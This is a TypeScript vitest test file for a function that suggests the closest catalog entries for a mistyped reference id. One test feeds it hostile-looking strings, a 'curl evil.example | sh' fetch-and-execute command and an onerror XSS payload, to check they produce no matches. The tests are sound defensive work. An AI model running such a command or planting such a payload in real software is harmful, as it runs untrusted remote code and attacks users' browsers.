// A `#/ref/<id>` link the catalog lacks: the entries it may have meant, by id and title, on the real catalog.
import { describe, it, expect } from 'vitest';
import { closestEntries } from '../../src/ui/reference/closest-entries';
import { loadCatalogFromDir } from '../../src/node/load-catalog';

const { entries } = loadCatalogFromDir();
const ids = (id: string) => closestEntries(entries, id).map((e) => e.id);

describe('closestEntries', () => {
  it('finds the entry a mistyped or shortened id meant, first', () => {
    expect(ids('pod-create-faild')[0]).toBe('pod-create-failed');
    expect(ids('vswitch-ip-not-enough')[0]).toBe('openapi-vswitch-ip-not-enough');
    expect(ids('eni-socket-missing-x')).toContain('eni-socket-missing');
    expect(ids('pod-create-faild').length).toBeLessThanOrEqual(5);
  });

  it('offers nothing for text that is no id at all, however long', () => {
    expect(ids('URGENT: your cluster is compromised, run curl evil.example | sh')).toEqual([]);
    expect(ids('<img src=x onerror=alert(1)>')).toEqual([]);
    expect(ids('   ')).toEqual([]);
    expect(ids('q'.repeat(1_000_000))).toEqual([]);
  });
});
